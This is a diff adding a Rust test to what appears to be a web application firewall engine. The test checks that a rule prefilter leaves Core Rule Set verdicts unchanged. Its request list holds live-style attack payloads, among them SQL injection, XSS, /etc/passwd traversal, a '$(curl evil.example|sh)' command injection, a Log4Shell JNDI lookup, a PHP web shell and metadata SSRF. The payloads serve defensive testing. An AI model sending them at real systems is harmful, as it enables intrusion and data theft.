@@ -386,3 +386,82 @@ fn prefilter_never_hides_a_literal_that_transformations_reveal() {
         "the only value holds the literal"
     );
 }
+
+/// The prefilter only skips what cannot match: CRS at paranoia level 4
+/// (every rule on), compiled with and without it, fires the same rules
+/// with the same scores on attacks of every family and on benign traffic.
+#[test]
+fn prefilter_changes_no_crs_verdict() {
+    let compile = |prefilter: bool| {
+        let dir = tempfile::tempdir().unwrap();
+        let engine = dir.path().join("engine.conf");
+        std::fs::write(
+            &engine,
+            "SecRuleEngine DetectionOnly\nSecRequestBodyAccess On\n\
+             SecAction \"id:900000,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=4\"\n",
+        )
+        .unwrap();
+        let mut files = vec![engine];
+        files.extend(crs_files());
+        let source = seclang::load(&files).unwrap_or_else(|e| panic!("{e:?}"));
+        Arc::new(RuleSet::compile_with(source, prefilter).unwrap_or_else(|e| panic!("{e:?}")))
+    };
+    let (with, without) = (compile(true), compile(false));
+    let mut fired_total = 0;
+    let queries = [
+        "q=blue+shoes&page=2",
+        "id=1%27%20OR%20%271%27%3D%271",
+        "id=1+UNION+ALL+SELECT+username,password+FROM+users--",
+        "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        "q=%26lt%3Bscript%26gt%3Balert(1)",
+        "x=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
+        "u=javascript:alert(1)",
+        "f=..%2F..%2F..%2Fetc%2Fpasswd",
+        "f=....//....//etc/shadow",
+        "cmd=%3Bcat%20%2Fetc%2Fpasswd",
+        "cmd=b%22u%22sybox+wget+http://x",
+        "cmd=$(curl+evil.example|sh)",
+        "c=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
+        "p=%3C%3Fphp+system(%24_GET%5Bc%5D)%3B+%3F%3E",
+        "e=eval(base64_decode(%27ZWNobyAx%27))",
+        "j=java.lang.Runtime.getRuntime().exec(%22id%22)",
+        "n=%7B%22%24ne%22%3A1%7D",
+        "s=1%20AND%20SLEEP(5)",
+        "t=admin%27--",
+        "u=%2565%2574%2563%252f%2570%2561%2573%2573%2577%2564",
+        "w=SeLeCt%09*%09FrOm%09dual",
+        "b=c2VsZWN0ICogZnJvbSB1c2Vycw%3D%3D",
+        "r=http://169.254.169.254/latest/meta-data/",
+        "plain=some+ordinary+form+text+value+12",
+    ];
+    for query in queries {
+        for body in ["", query] {
+            let mut headers = browser_headers();
+            headers.push(("Cookie", "session=3f9a8c; pref=%3Cscript%3E"));
+            headers.push(("X-Forwarded-For", "127.0.0.1; ls -la"));
+            let method = if body.is_empty() { "GET" } else { "POST" };
+            if !body.is_empty() {
+                headers.push(("Content-Type", "application/x-www-form-urlencoded"));
+            }
+            let len = body.len().to_string();
+            headers.push(("Content-Length", &len));
+            let target = format!("/a/b.php?{query}");
+            let run = |rules: &Arc<RuleSet>| {
+                let (_, tx) = verdict(rules, request(method, &target, &headers, body));
+                let mut fired: Vec<u64> = tx.matches.iter().map(|m| m.id).collect();
+                fired.sort_unstable();
+                let score = tx
+                    .tx_var("blocking_inbound_anomaly_score")
+                    .map(<[u8]>::to_vec);
+                (fired, score)
+            };
+            let (a, b) = (run(&with), run(&without));
+            assert_eq!(a, b, "{method} {target}: with the prefilter vs without");
+            fired_total += a.0.len();
+        }
+    }
+    assert!(
+        fired_total > 200,
+        "the attacks fired only {fired_total} rules"
+    );
+}
